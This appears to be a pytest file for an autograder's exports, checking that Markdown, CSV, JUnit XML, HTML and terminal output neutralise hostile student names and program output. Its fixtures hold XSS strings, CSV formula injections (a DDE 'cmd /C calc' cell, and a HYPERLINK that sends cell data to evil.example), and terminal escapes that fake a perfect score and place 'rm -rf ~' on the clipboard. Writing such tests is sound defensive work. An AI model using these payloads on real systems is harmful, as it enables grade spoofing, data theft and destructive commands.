"""Issue 15, instructor-side outputs: what a student named or printed is inert wherever the grader shows it
(Markdown, CSV, XML, HTML, the terminal). Host-side: the exports and renderers run on reports built here."""

import csv
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import click

import reports
from grader import render
from grader.batch import exports, run
from grader.batch.executor import Work
from grader.batch.inputs import Student
from grader.batch.store import Store
from grader.formats import junit

ESCAPES = ("\x1b[2J\x1b[H\x1b[1;32mScore: 100/100\x1b[0m\x1b[20A\x1b[K"  # clear, home, fake verdict, cursor up
           "\x1b]0;all tests passed\x07"  # window title
           "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8 hyperlink
           "\x1b]52;c;cm0gLXJmIH4K\x07"  # OSC 52: write the instructor's clipboard
           "\x9b2J\r\x08\x00")  # 8-bit CSI, carriage return, backspace, NUL
HOSTILE_IDS = [
    '<img src=x onerror=alert(1)>',
    '[click me](javascript:alert(1))',
    '![pixel](https://evil.example/t.png)',
    'a|b\r| injected | row |',
    '"><script>alert(1)</script>',
    'javascript:alert(1)',
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    " =1+2",
    "\x00=cmd|' /C calc'!A0",
    "\ufe63SUM(A1)",  # a small hyphen-minus
    "＝1+2",  # a fullwidth equals sign
    "eve" + ESCAPES,
]
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def hostile_class(tmp_path):
    """Every hostile id as a graded student with that name, file name and output; one not graded."""
    store = Store(tmp_path / "grader.db")
    students = [Student(id=sid, source="blackboard", name=sid, file=f"export.zip:{sid}", filename=f"{sid}.py",
                        data=str(i).encode()) for i, sid in enumerate(HOSTILE_IDS)]
    students.append(Student(id="<b>nobody</b>", source="folder", problem="no .py or .ipynb file (found: "
                                                                          "[x](javascript:alert(1)).py)"))
    store.set_roster(students)
    run_id = store.begin_run("grader grade x", "d", "v", ["skipped x.zip:<img src=x>: " + ESCAPES])
    for s in students[:-1]:
        rep = reports.no_zero_grad(s.filename)
        rep.output.stdout_tail = ESCAPES + "\n<script>alert(2)</script>\n"
        rep.checks[0].message = s.id  # a check message quoting what the student wrote
        store.save(s.sha256, "d", "v", rep.model_dump_json(), run_id)
    rows = store.rows("d", "v")
    run_info = {**store.run_info(run_id), "started_at": "2026-01-02T03:04:05Z"}
    store.close()
    return rows, run_info


def test_summary_md_carries_no_markup_no_links_and_no_control_bytes(tmp_path):
    rows, run_info = hostile_class(tmp_path)
    text = exports.summary_md(rows, run_info, None)
    assert not CONTROLS.search(text.replace("\n", "")), "a control byte in summary.md"
    for raw in ("<img", "<script", "<b>", "](", "![", "[click", "&"):  # unless escaped: then it is text
        assert not re.search(r"(?<!\\)" + re.escape(raw), text), raw


def test_summary_md_table_rows_keep_their_columns(tmp_path):
    rows, run_info = hostile_class(tmp_path)
    text = exports.summary_md(rows, run_info, None)
    section = text.split("## Slowest submissions")[1].split("\n\n")[1].splitlines()
    widths = {len(re.findall(r"(?<!\\)\|", line)) for line in section}
    assert widths == {4}, section


def test_grades_csv_has_no_live_formula_and_no_control_bytes(tmp_path):
    rows, _ = hostile_class(tmp_path)
    for text in (exports.grades_csv(rows), exports.gradebook("blackboard", rows, "HW1", "7", "")[0]):
        assert not CONTROLS.search(text.replace("\r\n", "")), "a control byte in the CSV"
        for row in csv.reader(text.lstrip("\ufeff").splitlines()):
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\ufe63")), cell


def test_junit_xml_is_well_formed_whatever_the_names_and_output(tmp_path):
    rows, _ = hostile_class(tmp_path)
    reps = [exports.report_of(r) for r in rows if r.report]
    reps[0].submission.name = "m\udcffllory.py"  # a file name that was never UTF-8
    text = junit.combined(reps)
    root = ET.fromstring(text.encode("utf-8"))
    assert len(root) == len(reps) and "\x1b" not in text and "\x00" not in text


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.links, self.handlers = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.links += [v for k, v in attrs if k in ("href", "src", "xlink:href", "action", "formaction")]
        self.handlers += [k for k, _ in attrs if k.startswith("on")]


def test_html_pages_link_only_to_themselves_and_run_only_their_own_script(tmp_path):
    rows, run_info = hostile_class(tmp_path)
    out = tmp_path / "out"
    exports.write_all(out, rows, run_info)
    pages = [out / "index.html", *(out / "pages").iterdir()]
    assert len(pages) == len(HOSTILE_IDS) + 1
    for page in pages:
        text = page.read_text()
        parser = Tags()
        parser.feed(text)
        assert parser.tags.count("script") <= 1 and "img" not in parser.tags and not parser.handlers, page.name
        assert not any("alert(" in js for js in re.findall(r"<script>(.*?)</script>", text, re.S)), page.name
        for link in parser.links:
            assert re.match(r"^(pages/[\w.%-]+\.html|#[\w-]+|data:image/)", link), (page.name, link)
        assert not CONTROLS.search(text.replace("\n", "").replace("\t", "")), page.name


def test_the_terminal_verdict_shows_a_programs_escapes_as_text():
    rep = reports.no_zero_grad("train" + ESCAPES + ".py")
    rep.output.stdout_tail = "Epoch 1, Loss: 0.3\n" + ESCAPES + "\n"
    rep.checks[-1].message = "printed: " + ESCAPES
    rep.checks[0].message = "ValueError: \nScore: 100/100"  # a message quoting the program's exception
    rep.warnings = ["the program wrote " + ESCAPES]
    for color in (False, True):
        text = click.unstyle(render.verdict(rep, color=color)) if color else render.verdict(rep, color=color)
        assert not CONTROLS.search(text.replace("\n", "")), repr(text)
        assert [line for line in text.splitlines() if line.startswith("Score:")] == ["Score: 75/100   held-out "
                                                                                  "accuracy 11.3% · 9.5 s"]
        shown = text.split("Your program's output")[1].split("\n\n")[0].splitlines()[1:]
        assert shown and all(line.startswith("  │ ") for line in shown)  # the fake verdict stays in its box


def test_grade_progress_lines_show_names_as_text(capsys):
    progress = run._Progress("lines", 1, {"k": ["eve" + ESCAPES]}, None)
    progress.update(Work("k", "eve.py", b""), {"score": 1, "max_score": 2, "status": "graded"})
    progress.say("warning: skipped x.zip:" + ESCAPES)
    err = capsys.readouterr().err
    assert "eve" in err and not CONTROLS.search(err.replace("\n", "")), repr(err)
